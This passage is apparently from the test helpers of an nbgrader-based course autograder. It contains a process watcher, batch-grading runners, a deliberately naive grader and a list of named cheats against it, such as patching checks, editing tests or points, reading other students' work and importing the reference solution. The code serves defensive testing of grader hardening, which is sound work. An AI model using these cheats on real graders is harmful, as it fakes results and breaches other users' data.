    ignore = shutil.ignore_patterns("__pycache__", "*.pyc", ".ipynb_checkpoints")
    shutil.copytree(ROOT / "solutions", folder / "solutions", ignore=ignore)
    shutil.copytree(ROOT / "rnncourse", folder / "rnncourse", ignore=ignore)
    shutil.copy(ROOT / "nbgrader_config.py", folder / "nbgrader_config.py")
    path = folder / ".rnncourse-secret"
    path.write_bytes(secret)
    path.chmod(0o600)
    return folder


def tree_digest(path):
    """A digest of a file or of a folder's names, link targets and contents (missing: "missing")."""
    path = Path(path)
    if not path.exists() and not path.is_symlink():
        return "missing"
    h = hashlib.sha256()
    items = [path] if not path.is_dir() else sorted(path.rglob("*"))
    for item in items:
        h.update(str(item.relative_to(path) if item != path else item.name).encode() + b"\0")
        if item.is_symlink():
            h.update(b"link:" + os.readlink(item).encode())
        elif item.is_file():
            h.update(item.read_bytes())
        h.update(b"\0")
    return h.hexdigest()


class ProcessWatcher:
    """Records every process below ``pid`` while it runs: (pid, create time) -> (uid, command line).

    ``wrapper``: the names of the programs that ``pid`` runs first, as a wrapper that then execs the
    command (:attr:`nonroot.Unprivileged.WRAPPER`). While ``pid`` is one of them, its children are the
    wrapper's own set-up (mounts, made as root before it drops to the user), not below the command: they
    are not recorded. A wrapper waits for each of them before its exec, so every child seen after is the
    command's.
    """

    def __init__(self, pid, interval=0.2, wrapper=()):
        import psutil

        self._psutil = psutil
        self.root = psutil.Process(pid)
        self._wrapper = set(wrapper)
        self.seen = {}
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, args=(interval,), daemon=True)
        self._thread.start()

    def _run(self, interval):
        psutil = self._psutil
        while not self._stop.is_set():
            try:
                if self._wrapper:
                    program = self.root.cmdline()[:1]  # empty for a moment during an exec
                    if not program or os.path.basename(program[0]) in self._wrapper:
                        self._stop.wait(interval / 20)  # still the wrapper: look again soon, record nothing
                        continue
                    self._wrapper = set()  # the command runs now, and the wrapper never comes back
                children = self.root.children(recursive=True)
            except psutil.Error:
                break
            for p in children:
                try:
                    key = (p.pid, p.create_time())
                    if key not in self.seen:
                        self.seen[key] = (p.uids().real, " ".join(p.cmdline())[:200])
                except psutil.Error:
                    pass
            self._stop.wait(interval)

    def stop(self):
        self._stop.set()
        self._thread.join()

    def survivors(self, token=None, since=None):
        """Processes still alive that were seen below the grader, or that carry ``token``, or orphans of a seen uid."""
        psutil = self._psutil
        alive = {}
        for (pid, created), (uid, cmd) in self.seen.items():
            try:
                if psutil.Process(pid).create_time() == created:
                    alive[pid] = (uid, cmd)
            except psutil.Error:
                pass
        sandbox_uids = {uid for uid, _ in self.seen.values() if uid != os.getuid()}
        for p in psutil.process_iter(["pid", "uids", "cmdline", "ppid", "create_time"]):
            info = p.info
            cmd = " ".join(info["cmdline"] or [])
            uid = info["uids"].real if info["uids"] else None
            carries_token = token is not None and token in cmd
            recent = since is None or info["create_time"] >= since
            orphan_of_sandbox = uid in sandbox_uids and info["ppid"] == 1 and recent
            if carries_token or orphan_of_sandbox:
                alive[info["pid"]] = (uid, cmd[:200])
        return alive


@dataclass
class Batch:
    returncode: int
    stdout: str
    stderr: str
    rows: list
    seconds: float
    watcher: object = None

    def by_student(self):
        found = {}
        for row in self.rows:
            found.setdefault(row["student_id"], []).append(row)
        return found


def read_grades(path):
    """grades.csv as a list of dicts; score, max_score and manual_pending as floats."""
    path = Path(path)
    if not path.exists():
        return []
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    for row in rows:
        for key in ("score", "max_score", "manual_pending"):
            try:
                row[key] = float(row[key])
            except (KeyError, TypeError, ValueError):
                row[key] = None
    return rows


def run_grade(submissions, out, *, course, db, secret=None, workers=2, limits=FAST_LIMITS, watch=False, timeout=1200,
              as_user=None):
    """``rnncourse grade 02_rnn SUBMISSIONS`` in a subprocess; the batch's rows and, if ``watch``, its processes.

    ``as_user`` (a :class:`nonroot.Unprivileged`), if given, runs it as that user (its ``wrap``).
    """
    cmd = [*grader_command(), "grade", ASSIGNMENT, str(submissions), "--out", str(out), "--course", str(course),
           "--db", f"sqlite:///{db}", "--workers", str(workers), "--no-progress", *limits]
    if secret is not None:
        cmd += ["--secret-file", str(secret)]
    if as_user is not None:
        cmd = as_user.wrap(cmd)
    env = dict(os.environ, OMP_NUM_THREADS="1", OPENBLAS_NUM_THREADS="1", MKL_NUM_THREADS="1")
    start = time.monotonic()
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env,
                            cwd=Path(out).parent)
    watcher = ProcessWatcher(proc.pid, wrapper=as_user.WRAPPER if as_user is not None else ()) if watch else None
    try:
        stdout, stderr = proc.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        proc.kill()
        stdout, stderr = proc.communicate()
        stderr += f"\n[the batch did not finish in {timeout} s and was killed]"
    if watcher is not None:
        watcher.stop()
    return Batch(proc.returncode, stdout, stderr, read_grades(Path(out) / "grades.csv"),
                 time.monotonic() - start, watcher)


def session_folder(tmp_path_factory):
    """A folder shared by every pytest-xdist worker of this test session (and by no other session)."""
    base = tmp_path_factory.getbasetemp()
    return base.parent if os.environ.get("PYTEST_XDIST_WORKER") else base


def computed_once(tmp_path_factory, name, compute):
    """``compute(folder)``, run once per test session (by the first pytest-xdist worker to ask); its JSON for all.

    For a module's whole-batch fixture: with ``-n 2``, the module's tests go to both workers, and each
    would otherwise grade the batch again. Paths in the result come back as strings.
    """
    import fcntl

    shared = session_folder(tmp_path_factory)
    result = shared / f"{name}.json"
    with open(shared / f"{name}.lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        if not result.exists():
            result.write_text(json.dumps(compute(tmp_path_factory.mktemp(name)), default=str))
        fcntl.flock(lock, fcntl.LOCK_UN)
    return json.loads(result.read_text())


def open_gradebook(path):
    """nbgrader's Gradebook on the SQLite file ``path`` (nbgrader runs ``alembic``: find it next to this Python)."""
    from nbgrader.api import Gradebook

    if shutil.which("alembic") is None and Path(sys.executable).with_name("alembic").exists():
        os.environ["PATH"] = f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}"
    return Gradebook(f"sqlite:///{path}")


# --- a naive grader, to show that the attacks are real --------------------------------

_NAIVE_GRADER = r"""
import contextlib, io, json, sys
from IPython.core.interactiveshell import InteractiveShell
nb = json.load(open(sys.argv[1]))
shell = InteractiveShell.instance()
points = 0
for cell in nb["cells"]:
    if cell.get("cell_type") != "code":
        continue
    meta = cell.get("metadata", {}).get("nbgrader", {})
    source = cell["source"] if isinstance(cell["source"], str) else "".join(cell["source"])
    with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(io.StringIO()):
        result = shell.run_cell(source)
    if meta.get("grade") and result.success:
        points += meta.get("points", 0)
print("NAIVE-SCORE", points)
"""


def naive_score(notebook_path, timeout=120):
    """The score a naive grader gives: the notebook's own cells run in one process, points from its metadata.

    That is what a grader does that trusts the student's process (stock
    nbgrader runs the test cells in the student's kernel). Runs in a
    subprocess, in the notebook's folder.
    """
    env = dict(os.environ, OMP_NUM_THREADS="1", OPENBLAS_NUM_THREADS="1", MKL_NUM_THREADS="1")
    done = subprocess.run([sys.executable, "-c", _NAIVE_GRADER, str(notebook_path)], cwd=Path(notebook_path).parent,
                          capture_output=True, text=True, timeout=timeout, env=env)
    for line in done.stdout.splitlines():
        if line.startswith("NAIVE-SCORE "):
            return float(line.split()[1])
    raise RuntimeError(f"the naive grader failed on {notebook_path}: {done.stderr[-2000:]}")


# Attacks that only read or patch things (nothing destructive), each of which a naive grader rewards.
NAIVE_CHEATS = (
    "input_transformer", "ast_transformer", "run_cell_patch", "patch_numpy", "patch_assert_helpers",
    "patch_checks", "patch_checks_reference", "edit_tests", "edit_points", "swap_grade_ids",
    "fake_graded_cells", "duplicate_cells", "read_other_students", "reference_direct",
    "reference_submodule", "reference_source", "reference_indirect", "reference_check_helpers",
)
